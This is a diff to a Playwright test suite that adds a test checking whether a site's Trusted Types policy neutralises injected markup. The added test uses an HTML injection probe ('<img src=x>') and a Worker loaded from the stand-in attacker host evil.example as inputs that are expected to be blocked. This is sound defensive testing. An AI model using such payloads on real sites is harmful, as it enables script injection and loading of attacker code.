@@ -6,7 +6,7 @@ import re
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Browser, Page
+from playwright.sync_api import Browser, Error, Page
 
 from tests.conftest import context, serving, settle, watched
 from tests.support.accessibility import faults
@@ -48,6 +48,19 @@ def test_no_page_breaks_its_policy_in_use(page: Page, address: str) -> None:
     assert errors == []
 
 
+def test_no_script_makes_markup_of_a_text_or_starts_a_thread_from_elsewhere(page: Page, address: str) -> None:
+    """Trusted Types, with a policy that lets text be text."""
+    page.goto(f"{address}en/reports/ml-visuals/")
+    made = page.evaluate(
+        """() => { const made = document.createElement("div")
+        made.innerHTML = "<b>a</b> & <img src=x>"
+        return [made.textContent, made.children.length] }"""
+    )
+    assert made == ["<b>a</b> & <img src=x>", 0]
+    with pytest.raises(Error, match="TrustedScriptURL"):
+        page.evaluate("new Worker('https://evil.example/x.js')")
+
+
 INLINE = '# A\n\n<script>document.title = \'mine\'</script>\n\n<p style="color: red" id="red">A</p>\n'
 
 
@@ -70,6 +83,7 @@ def test_the_owners_hosts_are_allowed(tmp_path: Path) -> None:
     assert policy
     for part in policy[1].split("; ")[:4]:
         assert part.endswith(" https://stats.example https://*.cdn.example:8443"), part
+    assert "trusted-types" not in policy[1], "their scripts may make markup"
 
 
 @pytest.mark.parametrize(
